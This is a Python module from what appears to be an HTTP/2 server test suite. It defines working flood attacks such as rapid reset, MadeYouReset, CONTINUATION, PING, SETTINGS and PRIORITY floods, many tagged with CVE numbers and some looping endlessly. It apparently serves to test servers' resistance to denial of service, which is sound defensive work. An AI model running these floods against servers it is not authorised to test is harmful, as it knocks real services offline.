"""Floods: many frames that cost the attacker little."""

from __future__ import annotations

from itertools import count

from soak import frames as f
from soak.attacks.base import Attack, Target, collector, expect
from soak.peer import odd

ATTACKS: list[Attack] = []
attack = collector(ATTACKS)


@attack("rapid reset, 20,000 times", "CVE-2023-44487", ends=True, calls=1100)
def rapid_reset(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    peer.send_all(f.request(n) + f.rst_stream(n) for n in odd(20_000))
    peer.read_to_the_end()


@attack("rapid reset, each pair a write", "CVE-2023-44487", ends=True, calls=1100)
def rapid_reset_in_pairs(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    for n in odd(20_000):
        peer.send(f.request(n, b"/silent"))
        peer.send(f.rst_stream(n))
    peer.read_to_the_end()


@attack("resets provoked: WINDOW_UPDATE of 0, 20,000 times", "CVE-2025-8671", ends=True, calls=1300)
def made_you_reset(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    peer.send_all(f.request(n, b"/silent") + f.window_update(n, 0) for n in odd(20_000))
    peer.read_to_the_end()


@attack("resets provoked: DATA after the end, 20,000 times", "CVE-2025-8671", ends=True, calls=1300)
def data_after_the_end(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    peer.send_all(f.request(n, b"/silent") + f.data(n, b"x") for n in odd(20_000))
    peer.read_to_the_end()


@attack("malformed requests, 20,000", "CVE-2025-8671", ends=True, calls=0)
def malformed(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    peer.send_all(f.request(n, b"/small", (b"Upper", b"x")) for n in odd(20_000))
    peer.read_to_the_end()


@attack("CONTINUATION without content, endless", "CVE-2024-28182", ends=True, calls=0)
def continuation_flood(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    peer.send(f.frame(f.HEADERS, 0, 1, b""))
    chunk = f.continuation(1, b"") * 5000
    while True:
        peer.send(chunk)


@attack("CONTINUATION of one octet, endless", "CVE-2024-27316", ends=True, calls=0)
def continuation_flood_of_octets(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    peer.send(f.frame(f.HEADERS, 0, 1, f.block(f.fields_of())))
    chunk = f.continuation(1, b"\x82") * 5000
    while True:
        peer.send(chunk)


@attack("PING, 200,000", "CVE-2019-9512", ends=True)
def ping_flood(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    peer.send_all(f.ping() for _ in range(200_000))
    peer.read_to_the_end()


@attack("PING, 200,000, answers not read", "CVE-2019-9512", ends=True)
def ping_flood_unread(target: Target) -> None:
    peer = target.dial(receive_buffer=4096)
    peer.hello()
    peer.send_all((f.ping() for _ in range(200_000)), reading=False)
    peer.read_to_the_end()


@attack("SETTINGS, 100,000", "CVE-2019-9515", ends=True)
def settings_flood(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    peer.send_all(f.settings() for _ in range(100_000))
    peer.read_to_the_end()


@attack("SETTINGS, 100,000, answers not read", "CVE-2019-9515", ends=True)
def settings_flood_unread(target: Target) -> None:
    peer = target.dial(receive_buffer=4096)
    peer.hello()
    peer.send_all((f.settings((4, 65_535)) for _ in range(100_000)), reading=False)
    peer.read_to_the_end()


@attack("SETTINGS that move a hundred windows, endless", ends=True)
def window_churn(target: Target) -> None:
    peer = target.dial()
    peer.hello((f.INITIAL_WINDOW_SIZE, 0))
    peer.send(b"".join([f.request(n, b"/made") for n in odd(100)]))
    pair = f.settings((4, 1)) + f.settings((4, 0))
    while True:
        peer.send(pair * 500)


@attack("SETTINGS of 2,400 entries", "CVE-2020-11080", ends=True)
def large_settings(target: Target) -> None:
    peer = target.dial()
    peer.send(f.PREFACE + f.settings(*[(3, 100)] * 2400))
    peer.read_to_the_end()


@attack("DATA without content, 100,000", "CVE-2019-9518", ends=True, calls=1)
def empty_data(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    peer.send(f.request(1, b"/sink", method=b"POST", end=False))
    peer.send_all(f.data(1, b"") for _ in range(100_000))
    peer.read_to_the_end()


@attack("DATA of padding alone, 100,000", "CVE-2019-9518", ends=True, calls=1)
def padding(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    peer.send(f.request(1, b"/sink", method=b"POST", end=False))
    one = f.frame(f.DATA, f.PADDED, 1, bytes([200]) + bytes(200))
    peer.send_all(one for _ in range(100_000))
    peer.read_to_the_end()


@attack("DATA of one octet, endless for ten seconds", "CVE-2019-9511", patience=10)
def tiny_data(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    for stream_id in count(1, 2):
        peer.send(f.request(stream_id, b"/sink", method=b"POST", end=False))
        peer.send(f.data(stream_id, b"x") * 60_000 + f.data(stream_id, b"", end=True))
        peer.read_until_answered([stream_id])


@attack("PRIORITY on idle streams, 100,000", "CVE-2019-9513", ends=True)
def priority_churn(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    peer.send_all(f.priority(n, n + 2, n % 256) for n in odd(100_000))
    peer.read_to_the_end()


@attack("PRIORITY_UPDATE, 100,000", "RFC 9218 §7.1", ends=True)
def priority_updates(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    peer.send_all(f.priority_update(n, b"u=%d" % (n % 8)) for n in odd(100_000))
    peer.read_to_the_end()


@attack("PRIORITY_UPDATE of open streams, 100,000", "RFC 9218 §7.1", ends=True)
def priority_updates_of_open_streams(target: Target) -> None:
    peer = target.dial()
    peer.hello((f.INITIAL_WINDOW_SIZE, 0))
    peer.send(b"".join([f.request(n, b"/made") for n in odd(100)]))
    peer.send_all(f.priority_update(1 + n % 100 * 2, b"u=%d" % (n % 8)) for n in range(100_000))
    peer.read_to_the_end()


@attack("WINDOW_UPDATE, 100,000", ends=True)
def window_updates(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    peer.send_all(f.window_update(0, 1) for _ in range(100_000))
    peer.read_to_the_end()


@attack("frames of an unknown type, 100,000", ends=True)
def unknown_frames(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    peer.send_all(f.frame(0xBB, 0xFF, n % 7, b"what is this") for n in range(100_000))
    peer.read_to_the_end()


@attack("RST_STREAM of closed streams, 100,000", ends=True)
def late_resets(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    peer.send(f.request(1))
    peer.read_until_answered([1])
    peer.send_all(f.rst_stream(1) for _ in range(100_000))
    peer.read_to_the_end()


@attack("DATA on closed streams, endless", ends=True)
def late_data(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    peer.send(f.request(1))
    peer.read_until_answered([1])
    while True:
        peer.send(f.data(1, bytes(1000)) * 50)


@attack("GOAWAY, 100,000", patience=10)
def goaway_flood(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    peer.send_all(f.frame(f.GOAWAY, 0, 0, bytes(8)) for _ in range(100_000))
    peer.read_for(1)


@attack("200 streams where 100 are allowed", calls=100)
def streams_beyond(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    peer.send(b"".join([f.request(n, b"/delayed") for n in odd(200)]))
    peer.read_until_answered(odd(200))
    expect(len(peer.answered) == 100, f"{len(peer.answered)} of the first 100 were answered")
    expect(set(peer.resets.values()) == {7}, "the others were not refused with REFUSED_STREAM")


@attack("20,000 streams where 100 are allowed", ends=True, calls=100)
def streams_far_beyond(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    peer.send_all(f.request(n, b"/silent") for n in odd(20_000))
    peer.read_to_the_end()
